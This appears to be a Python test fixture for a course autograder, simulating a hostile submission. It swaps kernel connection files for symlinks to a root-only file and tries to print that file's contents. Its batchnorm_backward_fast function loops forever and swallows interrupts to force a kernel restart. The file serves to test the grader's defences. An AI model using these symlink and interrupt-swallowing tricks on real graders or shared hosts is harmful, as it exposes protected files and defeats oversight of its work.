"""Hostile to the host: the connection file replaced by a link to a root-only file, then a restart. Loses: backward_fast, immutability

The kernel tries to swap its connection file (and a copy of its name in its home) for a link
to a root-only file, then batchnorm_backward_fast ignores its interrupt so the grader starts a
fresh kernel. A grader that chowned or read the connection file by name would hand that file
to this kernel's user, and to the next student graded with the same uid.
"""
# @REFERENCE@

import glob
import os

ROOT_ONLY = "@COURSE_ROOT@/.venv/../host-check-root-only.txt"
for name in glob.glob(os.path.expanduser("~/../../conn/*")) + [os.path.expanduser("~/.kernel-connection.json")]:
    try:
        os.replace(name, name + ".old")
    except OSError:
        pass
    try:
        os.symlink(ROOT_ONLY, name)
    except OSError:
        pass
try:
    print("LEAKED:", open(ROOT_ONLY).read())
except OSError as exc:
    print("root-only file:", type(exc).__name__)


def batchnorm_backward_fast(dout, cache):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
